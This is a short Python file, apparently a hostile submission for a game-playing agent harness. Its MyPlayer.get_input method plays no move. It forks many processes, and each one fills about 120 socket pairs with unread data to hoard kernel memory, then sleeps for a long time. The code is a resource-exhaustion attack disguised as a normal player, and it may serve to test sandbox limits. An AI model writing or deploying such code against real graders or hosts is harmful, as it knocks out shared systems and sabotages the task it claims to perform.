"""Hoards memory in sockets that nobody reads, in many processes."""

import os
import socket
import time


class MyPlayer:
    def get_input(self, go, piece_type):
        for _ in range(28):
            if not os.fork():
                break
        pairs = []
        while len(pairs) < 120:
            pairs.append(socket.socketpair())
            for end in pairs[-1]:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(1 << 16))
                except OSError:
                    continue
        time.sleep(1000)
